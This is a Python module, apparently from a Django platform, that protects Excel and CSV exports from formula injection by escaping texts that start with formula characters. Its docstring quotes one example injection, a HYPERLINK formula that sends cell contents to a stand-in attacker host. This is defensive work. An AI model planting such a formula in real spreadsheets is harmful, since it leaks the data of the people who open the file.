"""Excel and CSV exports that cannot carry a formula (CSV/formula injection, OWASP).

A text typed into the platform (a calculation's name, a cost line, a target group, a study label) that starts
with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return would be read by Excel or LibreOffice as a formula
when the export is opened, e.g. ``=HYPERLINK("https://evil.example/?"&A1, "Klik")``. `safe_cell` is the one
rule: such a text gets a leading apostrophe, so the spreadsheet shows it as text. Numbers, dates and booleans
are never touched (they stay numbers).

Every export writes through this module: `SafeWorkbook` (an XlsxWriter workbook whose sheets pass every text
cell through `safe_cell` and never turn a string into a formula or a link; the export's own formulas are
written with ``write_formula``) and `safe_csv_writer` (a ``csv.writer`` whose rows pass through `safe_cell`).
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any

import xlsxwriter
from django.utils.functional import Promise

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """`value` as it may go into a spreadsheet cell: a text that a spreadsheet would read as a formula is
    prefixed with an apostrophe; every other value (numbers included) is returned unchanged."""
    if isinstance(value, Promise):  # a lazily translated text
        value = str(value)
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


def unescape_cell(text: str) -> str:
    """The inverse of `safe_cell` for an import that reads an exported file back: one apostrophe before a
    formula character is removed (the text is stored as typed, and escaped again on the next export)."""
    if text.startswith("'") and text[1:].startswith(FORMULA_TRIGGERS):
        return text[1:]
    return text


def safe_row(row: Iterable[Any]) -> list[Any]:
    return [safe_cell(value) for value in row]


def _write_text(worksheet, row: int, col: int, text: str, *args):
    return worksheet.write_string(row, col, safe_cell(text), *args)


class SafeWorkbook(xlsxwriter.Workbook):
    """An in-memory XlsxWriter workbook in which no text cell becomes a formula or a link."""

    def __init__(self, filename, options: dict | None = None):
        defaults = {"in_memory": True, "strings_to_formulas": False, "strings_to_urls": False}
        super().__init__(filename, {**defaults, **(options or {})})

    def add_worksheet(self, name=None, worksheet_class=None):
        sheet = super().add_worksheet(name, worksheet_class)
        sheet.add_write_handler(str, _write_text)
        return sheet


class _SafeCsvWriter:
    def __init__(self, writer):
        self._writer = writer

    def writerow(self, row: Iterable[Any]):
        return self._writer.writerow(safe_row(row))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def safe_csv_writer(fh, *args, **kwargs) -> _SafeCsvWriter:
    """`csv.writer(fh, ...)` whose every cell goes through `safe_cell`."""
    return _SafeCsvWriter(csv.writer(fh, *args, **kwargs))
